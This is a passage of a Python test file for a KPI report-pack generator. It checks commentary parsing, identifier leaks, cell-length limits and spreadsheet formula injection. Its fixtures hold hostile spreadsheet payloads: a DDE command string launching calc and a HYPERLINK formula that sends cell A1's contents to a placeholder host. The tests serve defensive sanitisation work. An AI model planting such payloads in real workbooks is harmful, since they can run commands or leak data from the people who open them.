        ) in message
        assert not (work / "exports").exists() or not any((work / "exports").iterdir())
        # The same commentary without the identifier publishes: it was SW100003 that stopped it.
        path.write_text(path.read_text().replace("SW100003", "a team manager"))
        published = materialize()
    assert published.success, failures(published)
    html = (work / "exports" / "2018-03" / "kpi_pack.html").read_text()
    assert "Cases moved from a team manager." in html


def test_repository_sample_commentary_is_valid():
    sample = Path(__file__).parents[1] / "commentary" / f"{MONTH}.yaml"
    texts, _ = parse_commentary(sample, KNOWN)
    assert set(texts) == KNOWN


# --- hostile commentary (issue 16; the review's case numbers) ----------------------------------

FORMULAS = {
    "kpi_01": '=HYPERLINK("https://example.invalid/?x="&A1,"Click")',
    "kpi_02": "=cmd|' /C calc'!A0",
    "kpi_03": "@SUM(1+1)*cmd|' /C calc'!A0",
    "kpi_05": "+1+1 referrals over target",
    "kpi_06": "#N/A is not a figure",
}
# 8,000 five-letter words: 47,999 characters once the trailing space is stripped, more than
# the 32,767 an Excel cell holds.
LONG_COMMENTARY = "words " * 8_000


def _yaml_quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.fixture(scope="module")
def hostile_pack(hand_fixture_warehouse, tmp_path_factory):
    """The hand fixture's pack (March 2018) with formulas and an over-long paragraph as
    commentary, built straight from its warehouse (no PDF)."""
    from orchestration.report_pack.build import build_pack

    work = tmp_path_factory.mktemp("hostile_pack")
    (work / "commentary").mkdir()
    lines = [f"{page}: {_yaml_quoted(text)}" for page, text in FORMULAS.items()]
    lines.append(f"kpi_04: {LONG_COMMENTARY}")
    (work / "commentary" / "2018-03.yaml").write_text("\n".join(lines) + "\n")
    con = duckdb.connect(str(hand_fixture_warehouse), read_only=True)
    try:
        result = build_pack(
            con, work / "exports", "2018-03", [work / "commentary"], make_pdf=False, log=print
        )
    finally:
        con.close()
    return result


def test_c2_commentary_formulas_are_text_in_the_workbook(hostile_pack):
    # Was: `=HYPERLINK(...)` became a live formula in kpi_pack.xlsx, and `#N/A` an error value.
    with zipfile.ZipFile(hostile_pack.workbook) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(archive.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml, "a formula in the workbook"
    assert 't="e"' not in xml, "an error value in the workbook"
    workbook = openpyxl.load_workbook(hostile_pack.workbook)
    cells = {
        cell.value: cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in FORMULAS.values():
        cell = cells[text]  # the commentary as written, character for character
        assert cell.data_type == "s", text
        if text[0] in "=+-@":
            assert cell.quotePrefix, text  # stays text when someone edits the cell


def test_c5_over_long_commentary_continues_in_the_next_cells_never_cut(hostile_pack):
    # Was: the cell was cut to 32,767 characters without a word.
    sheet = openpyxl.load_workbook(hostile_pack.workbook)["KPI 4"]
    column = [row[0] for row in sheet.iter_rows(values_only=True)]
    start = column.index("Commentary") + 1
    parts = [value for value in column[start:] if value]
    assert len(parts) == 2 and all(len(p) <= 32_767 for p in parts)
    assert " ".join(parts) == LONG_COMMENTARY.strip()


def test_text_longer_than_a_cell_stops_the_pack_naming_page_and_limit():
    # openpyxl itself cuts a longer text to 32,767 characters without a word.
    from orchestration.report_pack.workbook import check_cell_lengths

    data = SimpleNamespace(pages=[SimpleNamespace(page_id="kpi_09", definition="d" * 32_768)],
                           tables={})  # fmt: skip
    with pytest.raises(ReportPackError, match=r"page kpi_09: its definition has 32,768 "
                       r"characters, more than the 32,767 an Excel cell holds"):  # fmt: skip
        check_cell_lengths(data)
    table = pd.DataFrame({"measure": ["fine", "m" * 40_000], "value": [1.0, 2.0]})
    data = SimpleNamespace(pages=[], tables={"rpt_kpi_09": table})
    with pytest.raises(ReportPackError, match=r"rpt_kpi_09\.measure holds a text of 40,000 "):
        check_cell_lengths(data)


def test_csv_tables_carry_no_formula():
    from orchestration.report_pack.tables import csv_frame

    frame = pd.DataFrame(
        {
            "measure": ["=1+1", "+44 7700", "-2", "@SUM(A1)", "\tx", "\rx", "Referrals", None],
            "value": [1.0, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
        }
    )
    shown = csv_frame(frame)
    assert shown["measure"].tolist()[:7] == [
        "'=1+1", "'+44 7700", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "Referrals",
    ]  # fmt: skip
    assert pd.isna(shown["measure"].iloc[7])
    assert shown["value"].tolist() == frame["value"].tolist()  # numbers stay numbers


def test_c6_control_characters_in_commentary_fail_naming_file_line_and_character(tmp_path):
    # Was: the pack failed with "Error occurred while executing op" only.
    path = tmp_path / "2018-12.yaml"
    path.write_text("kpi_01: fine\nkpi_02: rings \x07 a bell\n")
    with pytest.raises(
        ReportPackError,
        match=r"2018-12\.yaml, line 2, column 15: the control character U\+0007 \(BEL\)",
    ):
        parse_commentary(path, KNOWN)
    path.write_text('kpi_01: fine\nkpi_02: "written as an escape \\0"\n')
    with pytest.raises(
        ReportPackError,
        match=r"2018-12\.yaml, line 2: the commentary for kpi_02 holds the control character "
        r"U\+0000 \(NUL\)",
    ):
        parse_commentary(path, KNOWN)


def test_c8_identifiers_are_found_after_punctuation_and_inside_words(tmp_path):
    # Was: "case no.1000234" and "child_1000234" passed the check though 1000234 is an id.
    path = tmp_path / "2018-12.yaml"
    for text in ("Reviewed case no.1000234 today.", "Escalated child_1000234.", "(1000234)"):
        path.write_text(f"kpi_02: {_yaml_quoted(text)}\n")
        texts, lines = parse_commentary(path, KNOWN)
        commentary = Commentary(MONTH, path, [tmp_path], texts, lines)
        with pytest.raises(ReportPackError, match="contains 1000234, an identifier"):
            check_no_identifiers(commentary, lambda found: found & {"1000234"})
    # Counts, percentages and years are not taken for ids.
    path.write_text("kpi_02: 'Up 12.5% on 2018: 1,234 of 10,000 (no. 3).'\n")
    texts, lines = parse_commentary(path, KNOWN)
    seen: set[str] = set()
    check_no_identifiers(
        Commentary(MONTH, path, [tmp_path], texts, lines), lambda found: seen.update(found) or set()
    )
    assert seen == set()


def test_identifiers_are_those_the_extract_contract_names(hand_fixture_warehouse):
    from orchestration.report_pack.tables import find_identifiers

    con = duckdb.connect(str(hand_fixture_warehouse), read_only=True)
    try:
        # P1 a person, RV3 a review, CP7 a plan; WBRI an ethnicity and F a sex are not ids.
        found = find_identifiers(con, {"P1", "RV3", "CP7", "WBRI", "F", "nothing"})
    finally:
        con.close()
    assert found == {"P1", "RV3", "CP7"}
